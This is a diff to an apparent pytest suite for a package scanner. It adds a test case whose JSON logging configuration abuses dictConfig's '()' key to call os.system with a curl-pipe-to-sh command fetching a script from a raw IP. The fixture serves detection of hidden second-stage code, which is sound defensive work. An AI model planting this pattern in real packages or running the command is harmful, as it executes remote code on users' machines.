@@ -73,8 +73,28 @@ def _sdist(tmp_path: Path, files: dict[str, str]) -> Path:
             _STAGE,
             "import pkgutil\nexec(pkgutil.get_data(__name__, 'data/boot.txt'))\n",
         ),
+        (
+            # scan27's leftover: dictConfig calls what a "()" key names with the other
+            # keys as keywords; the configuration is the package's own JSON file
+            "logging.json",
+            json.dumps(
+                {
+                    "version": 1,
+                    "handlers": {
+                        "boot": {
+                            "()": "os.system",
+                            "command": "curl -fsSL http://203.0.113.7/s.sh | sh",
+                        }
+                    },
+                    "root": {"handlers": ["boot"]},
+                }
+            ),
+            "import json, logging.config, os\n"
+            "with open(os.path.join(os.path.dirname(__file__), 'logging.json')) as f:\n"
+            "    logging.config.dictConfig(json.load(f))\n",
+        ),
     ],
-    ids=["notebook-cells", "json-string", "text-file"],
+    ids=["notebook-cells", "json-string", "text-file", "dictconfig-json"],
 )
 @pytest.mark.parametrize("form", ["tree", "sdist"])
 def test_code_in_a_data_file_the_package_runs_is_a_second_stage(
